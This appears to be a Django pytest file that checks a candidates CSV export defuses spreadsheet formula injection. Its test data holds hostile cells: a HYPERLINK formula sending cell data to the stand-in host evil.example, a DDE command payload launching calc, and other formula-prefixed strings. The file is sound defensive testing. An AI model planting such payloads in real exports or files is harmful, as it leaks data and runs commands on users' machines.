"""The candidates CSV defuses cells a spreadsheet would run as formulas, and a scored copy still uploads."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import make_round
from training.models import Candidate

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_candidates_csv_escapes_formula_cells_and_leaves_plain_text_alone(client, cast):
    round = make_round(prompts=["=cmd|' /C calc'!A0", "Plain prompt?"])
    for k, text in enumerate([*HOSTILE, "a plain answer", "3 - 2 = 1"]):
        Candidate.objects.create(round=round, prompt_index=0 if k < len(HOSTILE) else 1, index=k, text=text, base_logprob=-1.0)
    client.force_login(cast.bob)

    response = client.get(reverse("candidates_csv", kwargs={"slug": round.slug, "group_slug": cast.group.slug}))

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row[3:]]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert [row[4] for row in rows[1:]][: len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert rows[-1][3:] == ["Plain prompt?", "3 - 2 = 1"]
    assert rows[1][3] == "'=cmd|' /C calc'!A0"
